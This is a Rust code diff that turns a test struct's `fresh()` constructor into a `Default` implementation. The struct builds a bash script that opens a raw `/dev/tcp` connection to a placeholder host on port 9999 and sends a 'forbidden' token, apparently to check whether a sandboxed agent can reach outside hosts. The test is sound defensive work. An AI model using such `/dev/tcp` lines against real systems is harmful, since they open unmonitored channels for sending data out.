@@ -22,9 +22,9 @@ pub struct Tries {
     pub script: String,
 }
 
-impl Tries {
+impl Default for Tries {
     /// With tokens of its own.
-    pub fn fresh() -> Self {
+    fn default() -> Self {
         let (permitted, forbidden) = (token::new(), token::new());
         let script = format!(
             "try() {{ exec 3<>/dev/tcp/{stranger}/9999 && echo {forbidden} >&3; }}\n\
@@ -40,7 +40,9 @@ impl Tries {
             script,
         }
     }
+}
 
+impl Tries {
     /// Runs it under an agent.
     pub fn run(&self, agent: Agent<'_>) -> Result<Report> {
         agent.run(&["/bin/bash", "-c", &self.script])
